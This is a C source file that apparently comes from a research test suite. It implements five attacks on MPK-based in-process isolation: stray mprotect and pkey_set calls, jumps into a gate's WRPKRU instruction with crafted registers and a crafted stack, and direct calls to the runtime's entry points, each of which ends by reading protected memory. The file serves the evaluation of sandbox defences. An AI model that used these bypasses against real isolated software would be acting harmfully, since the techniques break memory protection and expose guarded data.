/* A1: a WRPKRU that no gate stands around (in code mapped before the policy), and gates entered elsewhere than at their
 * start. On mprotect, where rights are page protection, the first is one system call.
 *
 * gate-middle leaves a gate's registers as they are, gate-matched sets all of them to
 * one number whose low half is 0: whichever register the gate compares with, it
 * finds what WRPKRU wrote, and whichever it stores through points to memory.
 *
 * Source: [PKU Pitfalls], [ERIM].
 */
#include <setjmp.h>
#include <string.h>
#include <sys/mman.h>
#include "attack.h"
#include "machinecode.h"
#include "mpk.h"
#include "naive.h"

#define GATE_BYTES 1024 /* no gate is longer */
#define MATCHED 0x7a00000000ul
#define MISMATCHED 0x7a00010000ul
#define REGION_BYTES 0x40000
#define STACK_WORDS 64

static jmp_buf back;

static void stray(void) {
    TRY("mprotect", attack_open_by_own_means());
    attack_read();
}

static void libc(void) {
    TRY("pkey_set", pkey_set(target.key, 0));
    attack_read();
}

/* Whatever a gate's epilogue takes off the stack, it returns here. */
static void __attribute__((force_align_arg_pointer)) arrived(void) {
    attack_read();
    longjmp(back, 1);
}

static void into_the_gate(unsigned long registers) {
    const void *gate = target.undefended ? naive_wrpkru() : (const void *)(uintptr_t)mpk_gate_exit;
    const unsigned char *wrpkru = machinecode_find(gate, GATE_BYTES, WRPKRU_BYTES, 3);
    if (!wrpkru) return;
    unsigned char *region = mmap((void *)MATCHED, REGION_BYTES, PROT_READ | PROT_WRITE,
                                 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    TRY("mmap", region == MAP_FAILED ? -1 : 0);
    void **stack = (void **)(region + REGION_BYTES) - STACK_WORDS;
    for (int i = 0; i < STACK_WORDS; i++) stack[i] = (void *)(uintptr_t)arrived;
    if (setjmp(back)) return;
    __asm__ volatile("mov %0, %%rsp\n\tmov %1, %%r11\n\tmov %2, %%r10\n\t"
                     "xor %%eax, %%eax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\t"
                     "mov %%r10, %%rbx\n\tmov %%r10, %%rbp\n\tmov %%r10, %%rsi\n\tmov %%r10, %%rdi\n\t"
                     "mov %%r10, %%r8\n\tmov %%r10, %%r9\n\tmov %%r10, %%r12\n\tmov %%r10, %%r13\n\t"
                     "mov %%r10, %%r14\n\tmov %%r10, %%r15\n\tpush %%r11\n\tmov %%r10, %%r11\n\tret"
                     :
                     : "r"(stack), "r"(wrpkru), "r"(registers)
                     : "memory", "rax", "rcx", "rdx", "r10", "r11");
    __builtin_unreachable();
}

static void gate_middle(void) { into_the_gate(MISMATCHED); }
static void gate_matched(void) { into_the_gate(MATCHED); }

/* The runtime's own entry points, called as functions. */
static void gate_call(void) {
    if (target.undefended) naive_exit();
    else mpk_access_begin();
    attack_read();
}

const struct attack attacks[] = {
    {.variant = "stray", .prepare = attack_map_opener, .attack = stray},
    {.variant = "libc", .attack = libc},
    {.variant = "gate-middle", .attack = gate_middle},
    {.variant = "gate-matched", .attack = gate_matched},
    {.variant = "gate-call", .attack = gate_call},
    {0},
};
